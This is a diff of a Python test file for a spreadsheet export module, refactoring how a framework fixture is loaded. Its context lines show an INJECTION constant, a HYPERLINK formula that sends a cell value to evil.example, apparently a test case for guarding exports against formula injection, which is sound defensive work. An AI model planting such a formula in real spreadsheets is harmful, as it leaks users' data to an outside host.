@@ -9,8 +9,9 @@ from decimal import Decimal
 import pytest
 from openpyxl import load_workbook
 
-from app.domain.lke import evaluate, load_framework, score
+from app.domain.lke import evaluate, score
 from app.frameworks import default_framework_path
+from app.services.lke import frameworks
 from app.services.lke.xlsx_layout import (
     COLUMNS,
     ExportMeta,
@@ -31,7 +32,7 @@ INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 
 @pytest.fixture(scope="module")
 def fw():
-    return load_framework(default_framework_path())
+    return frameworks.load_file(default_framework_path())
 
 
 META = ExportMeta(
